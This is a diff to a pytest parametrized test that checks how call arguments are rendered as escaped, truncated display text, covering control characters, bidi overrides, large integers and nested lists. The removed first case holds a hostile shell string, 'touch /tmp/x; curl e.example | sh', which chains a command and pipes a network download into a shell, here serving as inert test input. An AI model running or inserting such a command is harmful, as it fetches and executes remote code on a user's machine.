@@ -37,13 +37,11 @@ class Calls:
 @pytest.mark.parametrize(
     ("arguments", "text"),
     [
-        (("touch /tmp/x; curl e.example | sh",), "'touch /tmp/x; curl e.example | sh'"),
         ((), ""),
         (("a\x1b[31m\u202egnp\n\u05d0",), "'a\\x1b[31m\\u202egnp\\n\\u05d0'"),
         ((1 << 80, -2, True, None, 0.5), "a number of 81 bits, -2, True, None, 0.5"),
         ((["sh", ("-c",)], {"cwd": "/"}), "['sh', ('-c',)], {'cwd': '/'}"),
-        (([[[["deep"]]]],), "[[...]]"),
-        ((list(range(20)),), "[0, 1, 2, 3, 4, 5, 6, 7, ...]"),
+        (([[[["deep"]]]], list(range(20))), "[[...]], [0, 1, 2, 3, 4, 5, 6, 7, ...]"),
         ((os.getcwd, {}), "posix.getcwd, {}"),
     ],
 )
